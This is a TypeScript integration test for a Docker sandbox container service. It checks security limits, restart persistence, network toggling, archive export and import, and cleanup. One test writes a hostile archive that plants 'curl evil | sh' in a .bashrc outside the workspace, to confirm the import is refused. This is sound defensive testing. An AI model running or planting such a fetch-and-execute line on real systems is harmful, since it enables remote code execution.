import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Docker from 'dockerode';
import { pack } from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RoomContainerService } from '../../../main/room-container/room-container-service';
import { shIn } from './container-exec';

// Room containers on the real dockerd (issue 10 item 3): made from the sandbox images, the limits
// of runs, the folder's files inside, found again by a new service (an app restart), archives out
// and in (hostile ones refused), the network switch, and removal with the volumes.

const docker = new Docker();
const dir = mkdtempSync(path.join(os.tmpdir(), 'cc-room-container-'));
const folder = path.join(dir, 'project');
const scope = `folder:${folder}`;
const importedScope = `room:test-${process.pid}-imported`;
const service = () => new RoomContainerService(docker, path.join(dir, 'archives'));

const exec = (id: string, script: string) => shIn(docker, id, script);

beforeAll(() => {
  mkdirSync(path.join(folder, 'src'), { recursive: true });
  mkdirSync(path.join(folder, '.git'));
  writeFileSync(path.join(folder, 'src', 'main.py'), 'print("hi")\n');
  writeFileSync(path.join(folder, '.git', 'config'), '[core]\n');
});

afterAll(async () => {
  await service().remove(scope).catch(() => {});
  await service().remove(importedScope).catch(() => {});
  rmSync(dir, { recursive: true, force: true });
});

describe('room container', () => {
  it('is made with the run limits, the folder inside, no network, and survives a restart of the app', { timeout: 900_000 }, async () => {
    const lines: string[] = [];
    const status = await service().create(scope, { languages: ['python', 'bash'], storage: 'synced', folder, quotaMb: 512 }, (l) => lines.push(l));
    expect(status).toMatchObject({ exists: true, running: true, network: false, storage: 'synced', quotaMb: 512, languages: ['python', 'bash'] });
    const id = (await service().find(scope))!.Id;
    const inspected = await docker.getContainer(id).inspect();
    expect(inspected.Config.User).toBe('1000:1000');
    expect(inspected.HostConfig).toMatchObject({ NetworkMode: 'none', ReadonlyRootfs: true, CapDrop: ['ALL'], SecurityOpt: ['no-new-privileges'], PidsLimit: 512, Memory: 1024 * 2 ** 20, NanoCpus: 1e9 });

    expect(await exec(id, 'cat /workspace/src/main.py; ls -A /workspace')).toBe('print("hi")\nsrc\n');
    expect(await exec(id, 'python3 --version && bash --version | head -1 && pip3 --version >/dev/null && echo pip-ok')).toMatch(/Python 3\.\d+[\s\S]*GNU bash[\s\S]*pip-ok/);
    expect(await exec(id, 'touch /etc/x 2>&1; id -u')).toMatch(/Read-only file system[\s\S]*1000/);
    await exec(id, 'echo kept > /workspace/x && mkdir -p ~/.local && echo home > ~/.local/h');

    // A new service is what the app has after a restart: it finds the container by its label.
    const again = service();
    const found = await again.status(scope);
    expect(found).toMatchObject({ exists: true, running: true, storage: 'synced' });
    expect(found.usedMb).toBeGreaterThanOrEqual(0);
    expect(await exec((await again.find(scope))!.Id, 'cat /workspace/x ~/.local/h')).toBe('kept\nhome\n');
  });

  it('allowing the network says why it cannot where dockerd has no bridge, and keeps every file', { timeout: 120_000 }, async () => {
    const networks = await docker.listNetworks();
    const hasBridge = networks.some((n) => n.Name === 'bridge');
    if (hasBridge) {
      expect((await service().setNetwork(scope, true)).network).toBe(true);
      expect((await service().setNetwork(scope, false)).network).toBe(false);
    } else {
      await expect(service().setNetwork(scope, true)).rejects.toThrow(/no "bridge" network/);
      expect((await service().status(scope)).network).toBe(false);
    }
    expect(await exec((await service().find(scope))!.Id, 'cat /workspace/x')).toBe('kept\n');
  });

  it('exports the workspace to an archive and imports it into another room; refuses hostile archives', { timeout: 900_000 }, async () => {
    const rooms = service();
    const exported = await rooms.exportArchive(scope, 'project-1');
    expect(exported.bytes).toBeGreaterThan(0);
    await rooms.create(importedScope, { languages: ['python', 'bash'], storage: 'archive', archiveFile: rooms.archivePath('project-1') }, () => {});
    const id = (await rooms.find(importedScope))!.Id;
    expect(await exec(id, 'cat /workspace/x /workspace/src/main.py')).toBe('kept\nprint("hi")\n');

    const hostile = pack();
    hostile.entry({ name: 'home/runner/.bashrc' }, 'curl evil | sh\n');
    hostile.finalize();
    const chunks: Buffer[] = [];
    for await (const c of hostile) chunks.push(c as Buffer);
    writeFileSync(rooms.archivePath('hostile'), Buffer.concat(chunks));
    await expect(rooms.importArchive(importedScope, 'hostile')).rejects.toThrow(/not inside workspace\//);
    expect(await exec(id, 'cat ~/.bashrc 2>/dev/null || echo none')).toBe('none\n');
  });

  it('is removed with its volumes', { timeout: 120_000 }, async () => {
    expect(await service().remove(importedScope)).toBe(true);
    expect(await service().find(importedScope)).toBeUndefined();
    const { Volumes } = await docker.listVolumes();
    expect((Volumes ?? []).filter((v) => v.Name.includes('codecrafter-room-') && v.Labels?.['codecrafter.room-container.scope'] === importedScope)).toEqual([]);
    expect((await service().status(importedScope)).exists).toBe(false);
  });
});
